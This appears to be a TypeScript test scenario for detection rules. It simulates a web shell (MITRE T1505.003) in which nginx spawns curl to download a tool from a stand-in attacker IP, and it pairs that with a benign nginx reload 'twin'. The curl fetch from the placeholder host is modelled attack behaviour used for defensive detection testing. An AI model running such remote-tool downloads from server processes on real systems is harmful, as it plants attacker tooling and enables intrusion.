import { host, scene } from '../src/scenes/scene.ts';
import { run } from '../src/scenes/steps.ts';

export default scene({
  name: 'web-server-runs-tool',
  story: 'A web shell is asked who it is, and downloads more.',
  technique: 'T1505.003',
  place: host,
  falco: ['Web Server Spawned Suspicious Child Process'],
  lanner: ['Process Spawned by Web Server'],
  steps: [run('/usr/sbin/nginx', { does: [run('curl', { with: ['http://198.51.100.7/tool'] })] })],
  twin: {
    because: 'the server starts another process of itself.',
    steps: [run('/usr/sbin/nginx', { does: [run('/usr/sbin/nginx', { with: ['-s', 'reload'] })] })],
  },
});
